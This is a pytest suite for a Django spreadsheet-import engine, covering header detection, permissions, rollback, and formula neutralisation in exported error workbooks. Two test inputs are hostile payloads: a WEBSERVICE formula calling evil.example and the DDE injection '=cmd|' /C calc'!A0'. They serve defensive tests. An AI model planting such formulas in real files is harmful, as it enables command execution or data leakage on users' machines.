"""The engine through a small test-only kind: nothing here depends on a domain app."""

import datetime as dt

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from python_calamine import load_workbook

from frontline.core.exports import neutralise
from frontline.imports import parsers
from frontline.imports.engine import run_import
from frontline.imports.reader import FileRefused
from frontline.imports.registry import CommitResult, ImportColumn, ImportKind, register, unregister
from frontline.imports.workbooks import write_errors, write_template

from .conftest import write_csv, write_xlsx

pytestmark = pytest.mark.django_db
STORE: dict = {}


def _commit(rows, actor, dry_run):
    result = CommitResult()
    for r in rows:
        if r["code"] == "CONFLICT":
            result.errors.append((r["_row"], "conflict at commit"))
            continue
        if r["code"] in STORE:
            result.unchanged += 1
        else:
            STORE[r["code"]] = r
            result.created += 1
            result.ids.append(r["code"])
    return result


def _validate(row, ctx):
    row["division_code"] = ctx.resolver.resolve(row.get("township") or "", "")
    return row


WIDGETS = ImportKind(
    key="widgets",
    label="Widgets",
    perm="imports.members",
    columns=(
        ImportColumn("code", "编号", ("代码", "编码"), required=True, header_required=True),
        ImportColumn("when", "日期", ("时间",), lambda v, c: parsers.date(v, today=c.today)),
        ImportColumn("township", "乡镇", ()),
        ImportColumn("remark", "备注", ()),
    ),
    validate=_validate,
    commit=_commit,
    dedup_key=lambda r: r["code"],
    title="部件表",
)


@pytest.fixture(autouse=True)
def widgets():
    STORE.clear()
    register(WIDGETS)
    yield WIDGETS
    unregister("widgets")


def test_header_row_below_title_rows_with_variants_and_extra_columns(users, tmp_path, widgets):
    rows = [
        ["部件统计表"],
        ["填报单位：长冈乡", None, "2020年2月"],
        ["序号", "代码", "无关列", "时间", "乡镇", "备注"],
        [1, "A1", "x", "2020.1.28", "长冈乡", "=1+1"],
        [2, "A2", "y", "2020年1月29日", "长冈", ""],
        ["总计", 2],
    ]
    path = write_xlsx(tmp_path / "w.xlsx", rows, sheets={"封面": [["部件"], ["没有表头"]]})
    result = run_import(kind=widgets, path=path, actor=users["changgang_admin"], dry_run=False)
    assert (result.rows, result.created, result.errors) == (2, 2, [])
    assert result.header_row == 3
    assert STORE["A1"]["when"] == dt.date(2020, 1, 28) and STORE["A1"]["division_code"] == "360732217"
    assert STORE["A1"]["remark"] == "=1+1"  # stored as text, never evaluated


def test_formula_cells_are_never_evaluated_only_their_cached_value_read(users, tmp_path, widgets):
    import xlsxwriter

    path = tmp_path / "f.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet()
    ws.write_row(0, 0, ["编号", "备注", "乡镇"])
    ws.write_string(1, 0, "B1")
    ws.write_string(1, 2, "长冈乡")
    ws.write_formula(1, 1, '=WEBSERVICE("http://evil.example/")', None, "cached")
    wb.close()
    run_import(kind=widgets, path=path, actor=users["county_admin"], dry_run=False)
    assert STORE["B1"]["remark"] == "cached"


def test_missing_required_header_refuses_the_file_naming_the_column(users, tmp_path, widgets):
    path = write_csv(tmp_path / "w.csv", [["日期", "乡镇", "备注"], ["2020-1-1", "长冈乡", "x"]])
    with pytest.raises(FileRefused) as info:
        run_import(kind=widgets, path=path, actor=users["county_admin"], dry_run=False)
    assert "编号" in str(info.value)


def test_errors_found_at_commit_are_reported_by_row(users, tmp_path, widgets):
    path = write_csv(tmp_path / "w.csv", [["编号", "乡镇"], ["CONFLICT", "长冈乡"], ["C2", "长冈乡"]])
    result = run_import(kind=widgets, path=path, actor=users["county_admin"], dry_run=False)
    assert result.created == 1 and [(e.row, e.message) for e in result.errors] == [(2, "conflict at commit")]


def test_unavailable_kind_is_refused_with_its_reason(users, tmp_path, widgets):
    from dataclasses import replace

    unavailable = replace(widgets, available=lambda: "该类型需要返乡人员模块")
    path = write_csv(tmp_path / "w.csv", [["编号"], ["A"]])
    with pytest.raises(FileRefused, match="返乡人员模块"):
        run_import(kind=unavailable, path=path, actor=users["county_admin"], dry_run=False)


def test_role_without_the_kinds_permission_is_refused(users, tmp_path, widgets):
    path = write_csv(tmp_path / "w.csv", [["编号"], ["A"]])
    with pytest.raises(PermissionDenied):
        run_import(kind=widgets, path=path, actor=users["yuantang_doctor"], dry_run=False)


def test_a_failing_commit_leaves_nothing_behind(users, tmp_path, widgets):
    from dataclasses import replace

    from frontline.people.models import Person
    from frontline.testing import make_person

    def commit(rows, actor, dry_run):
        make_person("360732217203", "半途")
        raise RuntimeError("worker killed")

    path = write_csv(tmp_path / "w.csv", [["编号", "乡镇"], ["A", "长冈乡"]])
    with pytest.raises(RuntimeError):
        run_import(
            kind=replace(widgets, commit=commit), path=path, actor=users["county_admin"], dry_run=False
        )
    assert not Person.objects.exists()


def test_error_workbook_has_the_error_column_neutralises_formulas_and_reimports(users, tmp_path, widgets):
    rows = [
        ["编号", "日期", "乡镇", "备注"],
        ["A1", "昨天", "长冈乡", "=cmd|' /C calc'!A0"],
        ["A2", "2020-1-2", "火星乡", ""],
    ]
    path = write_xlsx(tmp_path / "w.xlsx", rows)
    result = run_import(kind=widgets, path=path, actor=users["county_admin"], dry_run=False)
    assert len(result.bad_rows) == 2
    out = tmp_path / "errors.xlsx"
    write_errors(
        out,
        kind=widgets,
        headers=result.headers,
        bad_rows=result.bad_rows,
        actor=users["county_admin"],
        export_id="t1",
    )
    sheet = load_workbook(str(out)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert sheet[1][:3] == ["Error", "Row", "编号"] or sheet[1][2] == "编号"
    assert (
        sheet[2][1] in (2, 2.0) and sheet[2][5] == neutralise("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    )
    # Fixed and uploaded again: the header row is found below the watermark banner.
    again = run_import(kind=widgets, path=out, actor=users["county_admin"], dry_run=True)
    assert again.header_row == 2 and again.rows == 2


def test_template_round_trip_headers_are_recognised(users, tmp_path, widgets):
    out = tmp_path / "t.xlsx"
    write_template(str(out), widgets)
    sheet = load_workbook(str(out)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert sheet[0][0] == "部件表" and sheet[2][0] == "编号*"
    with pytest.raises(ValidationError):
        parsers.name("")
